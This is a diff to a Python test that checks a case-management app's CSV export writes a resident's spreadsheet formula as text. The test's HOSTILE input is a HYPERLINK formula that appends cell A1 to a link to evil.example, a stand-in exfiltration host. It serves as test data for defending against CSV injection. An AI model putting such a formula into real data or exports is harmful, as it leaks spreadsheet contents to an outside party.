@@ -13,7 +13,10 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")楼道灯坏了'
 
 
 def test_case_exports_write_a_residents_formula_as_text(app_url, wecom):
-    assert "GB-" in wecom.send_text("demo-resident", HOSTILE)
+    reply = wecom.send_text("demo-resident", HOSTILE)
+    if "回复数字" in reply:  # asked which category (the formula's clauses may read as a second matter): the first one
+        reply = wecom.send_text("demo-resident", "1")
+    assert "GB-" in reply
     admin = logged_in(app_url)
     rows = list(csv.reader(io.StringIO(admin.http.get("/admin/cases/export.csv").content.decode("utf-8-sig"))))
     texts = [row[-1] for row in rows[1:]]
